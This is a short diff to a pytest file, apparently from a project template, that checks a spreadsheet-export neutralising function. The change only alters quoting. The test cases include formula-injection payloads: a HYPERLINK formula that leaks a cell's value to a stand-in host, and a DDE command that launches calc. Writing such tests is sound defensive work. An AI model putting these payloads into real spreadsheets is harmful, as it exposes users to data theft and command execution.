@@ -11,7 +11,7 @@ from {{ cookiecutter.package_name }}.spreadsheets import neutralised, spreadshee
 @pytest.mark.parametrize(
     "cell",
     [
-        "=HYPERLINK(\"http://example.org/?d=\"&A1, \"Click\")",
+        '=HYPERLINK("http://example.org/?d="&A1, "Click")',
         "+1+cmd|' /C calc'!A0",
         "-2+3",
         "@SUM(A1:A9)",
